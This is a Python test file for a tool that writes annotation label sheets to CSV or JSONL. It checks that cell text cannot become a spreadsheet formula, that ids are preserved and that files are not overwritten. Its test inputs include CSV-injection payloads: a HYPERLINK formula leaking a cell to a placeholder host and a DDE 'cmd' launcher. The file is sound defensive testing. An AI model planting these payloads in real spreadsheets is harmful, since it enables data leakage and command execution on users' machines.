"""A sheet survives the spreadsheet: no formula runs, no id changes, no label is lost."""

import csv
import json

import pytest

from nuggetjudge.programs.engine.label_sheet import CELL_CHARS, write_sheet
from nuggetjudge.records.labels import read_labels
from nuggetjudge.records.reading.problems import InputError, Problems


def row(**changed):
    return {
        "topic_id": "t1", "run_id": "a", "nugget_id": "n1", "question": "why", "answer_text": "so",
        "nugget": "fact", "label": None, "annotator": None, "rationale": None,
        "chosen_by": "random", "probability": 0.25,
    } | changed  # fmt: skip


HOSTILE = [
    '=HYPERLINK("http://x.test?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cannot_be_a_formula_in_any_column(tmp_path, text):
    path = tmp_path / "sheet.csv"
    write_sheet(path, [row(question=text, answer_text=text, nugget=text)], Problems())
    with path.open(encoding="utf-8-sig", newline="") as stream:
        (written,) = csv.DictReader(stream)
    for name in ("question", "answer_text", "nugget"):
        assert written[name] == "'" + text


@pytest.mark.parametrize(
    "text", ['a,"b"\nc\r\nd\re;f', "Ünïcode 潮汐 🌊", "\x00\x0b", "a = b", "'"]
)
def test_other_texts_stay_as_they_are(tmp_path, text):
    path = tmp_path / "sheet.csv"
    write_sheet(path, [row(answer_text=text), row(nugget_id="n2")], Problems())
    with path.open(encoding="utf-8-sig", newline="") as stream:
        assert [r["answer_text"] for r in csv.DictReader(stream)] == [text, "so"]
    labels = read_labels(path, problems := Problems())
    problems.raise_errors()
    assert labels.n_unlabelled == 2


@pytest.mark.parametrize("name", [f"{'x' * 300}.csv", "file/sheet.jsonl"])
def test_a_place_that_cannot_be_written_is_named(tmp_path, name):
    (tmp_path / "file").write_text("", encoding="utf-8")
    with pytest.raises(InputError, match=r"cannot be written \("):
        write_sheet(tmp_path / name, [row()], Problems())


@pytest.mark.parametrize("name", ["sheet.csv", "sheet.jsonl"])
def test_a_filled_sheet_is_read_as_it_is_and_an_empty_label_is_none(tmp_path, name):
    path = tmp_path / name
    ids = [f"n{i}" for i in range(3)]
    write_sheet(path, [row(nugget_id=i, question=HOSTILE[0]) for i in ids], Problems())
    if name.endswith(".csv"):
        with path.open(encoding="utf-8-sig", newline="") as stream:
            rows = list(csv.DictReader(stream))
        rows[0] |= {"label": "support", "annotator": "ann", "rationale": "=said"}
        rows[1] |= {"label": "Not_Support"}
        with path.open("w", encoding="utf-8", newline="") as stream:
            writer = csv.DictWriter(stream, rows[0])
            writer.writeheader()
            writer.writerows(rows)
    else:
        rows = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
        rows[0] |= {"label": "support", "annotator": "ann", "rationale": "said"}
        rows[1] |= {"label": "Not_Support"}
        path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    labels = read_labels(path, problems := Problems())
    problems.raise_errors()
    assert labels.cells == {("t1", "a", "n0"): "support", ("t1", "a", "n1"): "not_support"}
    assert (labels.kind, labels.n_unlabelled) == ("nuggets", 1)
    assert labels.annotations[("t1", "a", "n0")] == {"ann": "support"}


def test_the_spreadsheet_is_told_that_it_is_utf8(tmp_path):
    write_sheet(tmp_path / "s.csv", [row()], Problems())
    assert (tmp_path / "s.csv").read_bytes().startswith(b"\xef\xbb\xbftopic_id,")


def test_an_id_that_would_be_a_formula_is_refused_rather_than_changed(tmp_path):
    rows = [row(run_id="=cmd")]
    with pytest.raises(InputError, match=r"run_id '=cmd' would be a formula .* \.jsonl"):
        write_sheet(tmp_path / "s.csv", rows, Problems())
    assert not (tmp_path / "s.csv").exists()
    write_sheet(tmp_path / "s.jsonl", rows, Problems())
    assert read_labels(tmp_path / "s.jsonl", Problems()).n_unlabelled == 1


@pytest.mark.parametrize("name", ["007", "1e5", "3-4", "2024/12/1", "12345678901234567", "TRUE"])
def test_an_id_that_a_spreadsheet_rewrites_is_mentioned(tmp_path, name):
    write_sheet(tmp_path / "s.csv", [row(topic_id=name)], problems := Problems())
    assert problems.counts() == {"spreadsheet_id": 1}


def test_a_text_that_no_cell_holds_is_cut_and_mentioned(tmp_path):
    rows = [row(answer_text="x" * 40_000)]
    write_sheet(tmp_path / "s.csv", rows, problems := Problems())
    assert problems.counts() == {"cut_text": 1}
    write_sheet(tmp_path / "fits.csv", [row(answer_text="x" * CELL_CHARS)], problems)
    assert problems.counts() == {"cut_text": 1}  # none more
    write_sheet(tmp_path / "s.jsonl", rows, Problems())
    assert (
        json.loads((tmp_path / "s.jsonl").read_text(encoding="utf-8"))["answer_text"]
        == "x" * 40_000
    )


def test_a_file_that_may_hold_labels_is_never_written_over(tmp_path):
    path = tmp_path / "s.csv"
    write_sheet(path, [row()], Problems())
    with pytest.raises(InputError, match="may hold labels"):
        write_sheet(path, [row()], Problems())
    with pytest.raises(InputError, match=r"ends in \.csv or \.jsonl"):
        write_sheet(tmp_path / "s.xlsx", [row()], Problems())
